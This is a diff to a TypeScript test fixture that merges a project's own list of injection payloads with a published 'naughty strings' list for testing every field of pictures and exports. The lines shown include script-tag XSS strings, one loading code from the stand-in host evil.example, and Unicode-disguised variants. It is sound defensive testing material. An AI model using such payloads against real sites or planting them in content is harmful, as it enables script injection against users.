@@ -1,11 +1,13 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is what they are about
+import { naughtyStrings } from './naughtyStrings.ts';
+
 /**
  * Texts that somebody may write into a file to break out of its box: markup that runs, loads or hides, in HTML, SVG, CSS,
  * XML, Mermaid, Markdown, templates, shells and tables, with the tricks by which they are smuggled past filters.
  * Whatever calls `hit`, whatever asks `evil.example`, and whatever is not shown as it stands here has found a hole.
- * At least two hundred; every field of every picture and of every export is tried with each of them.
+ * They were written for this project, about what its own readers and writers do.
  */
-export const hostilePayloads: readonly string[] = [
+const OURS: readonly string[] = [
   '<script>hit()</script>',
   '<SCRIPT>hit()</SCRIPT>',
   '<script src="https://evil.example/x.js"></script>',
@@ -359,3 +361,6 @@ export const hostilePayloads: readonly string[] = [
   '%%{init\u200b}%%',
   '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
 ];
+
+/** Ours, and those that others have published: every field of every picture and of every export is tried with each of them. */
+export const hostilePayloads: readonly string[] = [...new Set([...OURS, ...naughtyStrings])];
